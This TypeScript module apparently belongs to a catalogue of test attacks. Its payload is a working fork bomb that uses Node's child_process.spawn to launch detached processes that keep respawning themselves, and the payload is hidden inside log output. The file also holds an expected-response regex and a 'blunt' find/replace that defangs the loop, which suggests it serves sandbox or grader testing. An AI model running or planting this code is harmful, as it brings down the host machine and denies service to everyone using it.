/** Processes that start processes. */
import type {Attack} from '../attack';
import {PROCESS, ON_LOG, builtin, hiddenInLog} from '../pieces';

export const attack: Attack = {
  tries: 'starts processes that start processes, without end',
  gains: 'the machine: nothing else is graded',
  ...ON_LOG,
  ...hiddenInLog({top: `const bomb = 'for (let n = 0; n < Infinity; n++) require("child_process")' +
  '.spawn(process.execPath, ["-e", process.argv[1], process.argv[1], "@token@"], ' +
  '{detached: true, stdio: "ignore"}).on("error", () => 0)';
for (let n = 0; n < Infinity && n < 100; n++) {
  ${builtin('child_process')}.spawn(${PROCESS}.execPath, ['-e', bomb, bomb, '@token@'],
    {detached: true, stdio: 'ignore'}).on('error', () => undefined).unref();
}`}),
  says: /lastIndex is 0|returned 0|answered|no answer|does not end/,
  armed: {leaves: 'a process', blunt: {
    find: 'for (let n = 0; n < Infinity',
    replace: 'setInterval(() => 0, 1000); for (let n = 9; n < 10',
  }},
};
